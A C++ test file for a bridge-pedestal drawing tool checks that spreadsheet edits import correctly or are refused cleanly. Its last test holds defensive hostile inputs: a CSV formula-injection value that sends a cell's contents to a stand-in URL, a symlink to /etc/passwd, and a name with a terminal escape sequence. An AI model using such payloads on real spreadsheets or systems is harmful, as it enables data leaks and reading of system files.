// The edits engineers make to exported sheets in a spreadsheet program
// (openpyxl makes them, LibreOffice re-saves the files): each either does
// what the engineer meant or is refused naming the cell and the rule, with
// the project file byte for byte as it was; and the project always loads.
#include <gtest/gtest.h>

#include <filesystem>
#include <string>
#include <vector>

#include "host/framework/atomic_file.h"
#include "support/program_run.h"
#include "support/temp_folder.h"
#include "support/utf8_literal.h"

namespace {

using ds_test::utf8;
namespace fs = std::filesystem;

bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

class EngineersEdits : public ds_test::temp_folder_test {
protected:
    /// Two single drawings of piers 1 and 2 (the first with two heights), the
    /// parametric drawing merged from them, and their exported files.
    void SetUp() override
    {
        temp_folder_test::SetUp();
        m_project = (m_dir / "p.json").string();
        ASSERT_EQ(host({"new", m_project}).exit_code, 0);
        for (const char* pier : {"1", "2"}) {
            const std::string name = utf8(u8"垫石-主线") + pier + utf8(u8"号墩");
            ASSERT_EQ(host({"add", m_project, "--name", name}).exit_code, 0);
            ASSERT_EQ(host({"reference", m_project, "-d", name, "--structure", utf8(u8"主线") + pier + utf8(u8"号墩"),
                            "--rows", "1,2", "--numbers", "1,2"}).exit_code, 0);
        }
        ASSERT_EQ(host({"merge", m_project, "--drawings", m_single + "," + m_other}).exit_code, 0);
        ASSERT_EQ(host({"grid", m_project, "-d", m_single, "--set", utf8(u8"垫石-构造属性.m_dHeight=220,230")}).exit_code, 0);
        const std::pair<std::string, std::string> exports[] = {
            {m_single, "single.xlsx"}, {m_other, "other.xlsx"}, {m_param, "param.xlsx"}, {m_single, "single.csv"}};
        for (const auto& [drawing, file] : exports) {
            const fs::path path = m_dir / file;
            ASSERT_EQ(host({"export", m_project, "-d", drawing, path.extension() == ".csv" ? "--csv" : "--xlsx", path.string()}).exit_code, 0);
        }
        ASSERT_EQ(host({"export", m_project, "--all", "--xlsx", (m_dir / "all.xlsx").string()}).exit_code, 0);
        m_pristine = ds_file::read_whole_file(m_project);
    }

    ds_test::run_result host(const std::vector<std::string>& args) { return ds_test::run_ds_host(args, m_dir); }

    struct edit_case {
        std::string file;  ///< under edits/, or any path
        bool parametric;
        bool imports;
        std::string says;  ///< in the output when it imports, in the error when it is refused
        std::vector<std::string> more = {};
        std::string never = {};  ///< not in the output
    };

    /// Imports the case's file into the pristine project and checks the outcome.
    void check(const edit_case& c)
    {
        ds_file::write_file_atomically(m_project, m_pristine);
        const fs::path file = fs::path(c.file).is_absolute() ? fs::path(c.file) : m_dir / "edits" / c.file;
        std::vector<std::string> args = {"import", m_project, "-d", c.parametric ? m_param : m_single,
                                         file.extension() == ".csv" ? "--csv" : "--xlsx", file.string()};
        args.insert(args.end(), c.more.begin(), c.more.end());
        const ds_test::run_result r = host(args);
        if (c.imports) {
            EXPECT_EQ(r.exit_code, 0) << c.file << r.err;
            EXPECT_TRUE(contains(r.out, c.says)) << c.file << "\n" << r.out;
            EXPECT_TRUE(c.never.empty() || !contains(r.out, c.never)) << c.file << "\n" << r.out;
            EXPECT_EQ(host({"list", m_project}).exit_code, 0) << c.file << ": the project no longer loads";
        } else {
            EXPECT_NE(r.exit_code, 0) << c.file << r.out;
            EXPECT_TRUE(contains(r.err, c.says)) << c.file << "\n" << r.err;
            EXPECT_EQ(ds_file::read_whole_file(m_project), m_pristine) << c.file;
        }
    }

    std::string m_project, m_pristine;
    const std::string m_single = utf8(u8"垫石-主线1号墩"), m_other = utf8(u8"垫石-主线2号墩"), m_param = utf8(u8"[参数化] 垫石");
};

TEST_F(EngineersEdits, EachEditDoesWhatWasMeantOrIsRefusedAndTheProjectAlwaysLoads)
{
    const ds_test::run_result made =
        ds_test::run_program("/usr/bin/python3", {DS_FIXTURES_DIR "/spreadsheet_clients/engineers_edits.py", m_dir.string()}, m_dir);
    ASSERT_EQ(made.exit_code, 0) << made.err;
    const std::string choices = "needs one of the choices";
    const edit_case cases[] = {
        // A single drawing's sheet.
        {"width_600.xlsx", false, true, utf8(u8"垫石横桥向宽度：560 → 600")},
        {"width_as_date.xlsx", false, false, "cell B6: the number 46143 is shown as a date (format \"yyyy-mm-dd\")"},
        {"angle_as_percent.xlsx", false, false, "cell B9: the number 0.9 is shown as a percentage"},
        {"number_as_date.xlsx", false, false, "cell B12: the number 46023 is shown as a date"},
        {"formula_in_text.xlsx", false, false, "cell B14: holds a formula (=A1) with no stored value"},
        {"formula_in_number.xlsx", false, false, "open and save the workbook in a spreadsheet program, or type the value"},
        {"heights_as_number.xlsx", false, false, utf8(u8"cell B8 \"高度(mm)\": \"220230\"")},
        {"heights_full_width_comma.xlsx", false, false, "separate heights with , ; or a space"},
        {"heights_with_text.xlsx", false, false, "\"abc\" is not a number"},
        {"heights_empty.xlsx", false, false, "needs at least one height"},
        {"mode_unknown.xlsx", false, false, utf8(u8"cell B3 \"输入方式\": \"导入\" ") + choices},
        {"mode_empty.xlsx", false, false, utf8(u8"cell B3 \"输入方式\": \"\" ") + choices},
        {"concrete_lower_case.xlsx", false, false, "\"c45\" " + choices},
        {"position_unknown.xlsx", false, false, utf8(u8"\"中间\" ") + choices},
        {"pier_negative.xlsx", false, false, utf8(u8"cell B15 \"墩台号\": \"-1\" needs a whole number from 0")},
        {"width_zero.xlsx", false, false, utf8(u8"cell B6 \"横桥向宽度(mm)\": \"0\" needs a number from 0.001")},
        // A message repeats the first 200 characters of a long value, and says how long it is.
        {"note_too_long.xlsx", false, false, "... (4001 characters)\" "},
        {"width_subnormal.xlsx", false, false, "e-324\" needs a number from 0.001"},
        {"scale_typed_as_ratio.xlsx", false, true, utf8(u8"比例：50 → 20")},
        {"sheet_before_table.xlsx", false, true, utf8(u8"垫石横桥向宽度：560 → 600")},
        {"deleted_row.xlsx", false, false, utf8(u8"the row \"斜交角(°)\" (row 9 of the drawing's table) is missing")},
        {"other_drawing.xlsx", false, false, utf8(u8"holds the table of the drawing \"垫石-主线2号墩\", not of \"垫石-主线1号墩\"")},
        {"other_drawing.xlsx", false, true, "as --force asks", {"--force"}},
        {"saved_as_ods.ods", false, false, "an OpenDocument spreadsheet (.ods), not an XLSX workbook; save it as .xlsx"},
        {"semicolons.csv", false, true, "separates its cells with semicolons, not commas"},
        {"tabs.csv", false, true, "separates its cells with tabs, not commas"},
        // The parametric drawing's sheet.
        {(m_dir / "param.xlsx").string(), true, true, "changes: none", {}, "height(s) for"},  // no edit, no note
        {"merged_bridge_parts.xlsx", true, true, "changes: none"},
        {"merged_width_and_length.xlsx", false, false, utf8(u8"the merged cells B6:B7 span \"横桥向宽度(mm)\" and \"顺桥向长度(mm)\"")},
        {"read_only_width.xlsx", true, true, "\"999\" ignored"},
        {"list_heights_as_number.xlsx", true, false, "cell D17"},
        {"list_heights_typed.xlsx", true, true, "250,260"},
        {"list_count_raised.xlsx", true, true, "1 height(s) for 3 pedestal(s)"},
        {"list_bridge_part_empty.xlsx", true, false, utf8(u8"cell A17 \"桥幅\": \"\" may not be empty")},
        {"list_pier_negative.xlsx", true, false, "cell B17"},
        {"list_rows_swapped.xlsx", true, true, "imported"},
        // Renumbering pier 1 as 5 keeps the row's type, sizes and rebar; renumbering while reordering is refused.
        {"list_renumbered.xlsx", true, true, utf8(u8"list row 1 (主线 5) was 主线 1: its bridge part or number changed"), {},
         "take the row defaults"},
        {"list_swapped_and_renumbered.xlsx", true, false, "which row it was cannot be told"},
        // One workbook of every drawing: each finds its own sheet by name.
        {(m_dir / "all.xlsx").string(), false, true, "changes: none"},
        {(m_dir / "all.xlsx").string(), true, true, "changes: none", {}, "ignored"},
        {(m_dir / "all.xlsx").string(), false, false, "holds the table of the drawing", {"--sheet", m_other}},
    };
    for (const edit_case& c : cases) check(c);

    // A table that names no drawing imports into its own drawing, but not into one for another structure.
    check({"unnamed.xlsx", false, true, "does not name the drawing it was exported from"});
    ds_file::write_file_atomically(m_project, m_pristine);
    const std::string unnamed = (m_dir / "edits" / "unnamed.xlsx").string();
    const ds_test::run_result other = host({"import", m_project, "-d", m_other, "--xlsx", unnamed});
    EXPECT_NE(other.exit_code, 0);
    EXPECT_TRUE(contains(other.err, utf8(u8"names no drawing and would change which structure \"垫石-主线2号墩\" is for (墩台号 2 → 1)")))
        << other.err;
    EXPECT_EQ(ds_file::read_whole_file(m_project), m_pristine);
    const ds_test::run_result forced = host({"import", m_project, "-d", m_other, "--xlsx", unnamed, "--force"});
    EXPECT_EQ(forced.exit_code, 0) << forced.err;
    EXPECT_TRUE(contains(forced.out + forced.err, utf8(u8"墩台号 2 → 1 taken as --force asks"))) << forced.out << forced.err;

    // LibreOffice opens the exported files and saves them unchanged: the CSV
    // as a person would (UTF-8, which it detects), the workbooks as they are.
    const std::string profile = "-env:UserInstallation=file://" + (m_dir / "office-profile").string();
    const fs::path resaved = m_dir / "resaved";
    ds_test::run_result office = ds_test::run_program(
        "soffice", {profile, "--headless", "--infilter=Text - txt - csv (StarCalc):44,34,76,1",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", resaved.string(), (m_dir / "single.csv").string()}, m_dir);
    ASSERT_EQ(office.exit_code, 0) << office.err;
    office = ds_test::run_program("soffice", {profile, "--headless", "--convert-to", "xlsx", "--outdir", resaved.string(),
                                              (m_dir / "single.xlsx").string(), (m_dir / "param.xlsx").string()}, m_dir);
    ASSERT_EQ(office.exit_code, 0) << office.err;
    const edit_case resaves[] = {
        // "220,230" reads as the number 220230 in the program's locale: refused, not saved.
        {(resaved / "single.csv").string(), false, false, utf8(u8"cell B8 \"高度(mm)\": \"220230\"")},
        {(resaved / "single.xlsx").string(), false, true, "changes: none"},
        {(resaved / "param.xlsx").string(), true, true, "changes: none"},
    };
    for (const edit_case& c : resaves) check(c);
}

// Drawings whose names make one sheet name ("A/B" and "A_B"; two long names
// alike in their first 31 characters): the workbook of every drawing opens in
// a spreadsheet program, and each drawing reads back its own sheet, found by
// the naming row, not the one whose name it would have had. A workbook with
// two sheets of one name is refused.
TEST_F(EngineersEdits, DrawingsWhoseNamesMakeOneSheetNameEachReadTheirOwnSheet)
{
    std::string thirty_one;
    for (int i = 0; i < 31; ++i) thirty_one += utf8(u8"垫");
    const std::string names[] = {"A/B", "A_B", thirty_one + utf8(u8"甲"), thirty_one + utf8(u8"乙")};
    for (const std::string& name : names) ASSERT_EQ(host({"add", m_project, "--name", name}).exit_code, 0) << name;
    ASSERT_EQ(host({"grid", m_project, "-d", "A/B", "--set", utf8(u8"垫石-构造属性.m_dWidth=777")}).exit_code, 0);
    const fs::path all = m_dir / "names.xlsx";
    ASSERT_EQ(host({"export", m_project, "--all", "--xlsx", all.string()}).exit_code, 0);
    const ds_test::run_result opened = ds_test::run_program(
        "/usr/bin/python3", {"-c", "import openpyxl, sys; print('\\n'.join(openpyxl.load_workbook(sys.argv[1]).sheetnames))", all.string()},
        m_dir);
    ASSERT_EQ(opened.exit_code, 0) << opened.err;
    EXPECT_TRUE(contains(opened.out, "A_B\nA_B~2\n")) << opened.out;
    m_pristine = ds_file::read_whole_file(m_project);
    for (const std::string& name : names) {
        const ds_test::run_result r = host({"import", m_project, "-d", name, "--xlsx", all.string()});
        EXPECT_EQ(r.exit_code, 0) << name << r.err;
        EXPECT_TRUE(contains(r.out, "changes: none")) << name << "\n" << r.out;
    }
    EXPECT_EQ(ds_file::read_whole_file(m_project), m_pristine);

    // The same workbook with its second sheet renamed as the first.
    const fs::path twice = m_dir / "twice.xlsx";
    const ds_test::run_result made = ds_test::run_program(
        "/usr/bin/python3",
        {"-c",
         "import sys, zipfile\n"
         "src, dst = zipfile.ZipFile(sys.argv[1]), zipfile.ZipFile(sys.argv[2], 'w')\n"
         "for item in src.infolist():\n"
         "    data = src.read(item)\n"
         "    if item.filename == 'xl/workbook.xml': data = data.replace(b'name=\"A_B~2\"', b'name=\"a_b\"')\n"
         "    dst.writestr(item, data)\n"
         "dst.close()\n",
         all.string(), twice.string()},
        m_dir);
    ASSERT_EQ(made.exit_code, 0) << made.err;
    check({twice.string(), false, false, "the workbook has two sheets named \"a_b\"", {"--sheet", "A_B"}});
}

// Files made to harm: a text that a spreadsheet program would run as a
// formula leaves the CSV export as text and comes back unchanged; a file that
// is no spreadsheet is refused without repeating what it holds; names and
// file names with control characters print escaped.
TEST_F(EngineersEdits, HostileTextsAreNeutralisedAndForeignFilesNotQuoted)
{
    const ds_test::run_result made =
        ds_test::run_program("/usr/bin/python3", {DS_FIXTURES_DIR "/spreadsheet_clients/engineers_edits.py", m_dir.string()}, m_dir);
    ASSERT_EQ(made.exit_code, 0) << made.err;
    const std::string formula = "=HYPERLINK(\"http://x?\"&A1,\"click\")";
    check({"note_like_a_formula.xlsx", false, true, formula});
    const fs::path csv = m_dir / "note.csv";
    ASSERT_EQ(host({"export", m_project, "-d", m_single, "--csv", csv.string()}).exit_code, 0);
    EXPECT_TRUE(contains(ds_file::read_whole_file(csv), "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"click\"\")\""));
    m_pristine = ds_file::read_whole_file(m_project);
    check({csv.string(), false, true, "changes: none"});

    fs::create_symlink("/etc/passwd", m_dir / "passwd.csv");
    check({(m_dir / "passwd.csv").string(), false, false, "it does not hold a drawing's table"});
    EXPECT_FALSE(contains(host({"import", m_project, "-d", m_single, "--csv", (m_dir / "passwd.csv").string()}).err, "root"));
    check({(m_dir / "single.csv").string(), false, false, "the file is UTF-8 text, not GBK", {"--encoding", "gbk"}});

    const ds_test::run_result added = host({"add", m_project, "--name", "x\ny\x1B[2J"});
    EXPECT_NE(added.exit_code, 0);
    EXPECT_TRUE(contains(added.err, "x\\x0Ay\\x1B[2J")) << added.err;
    const ds_test::run_result drawn = host({"draw", m_project, "-d", m_single, "--svg", (m_dir / "o\nut").string()});
    EXPECT_TRUE(contains(drawn.out, "wrote " + (m_dir / "o\\x0Aut").string())) << drawn.out;
}

}  // namespace
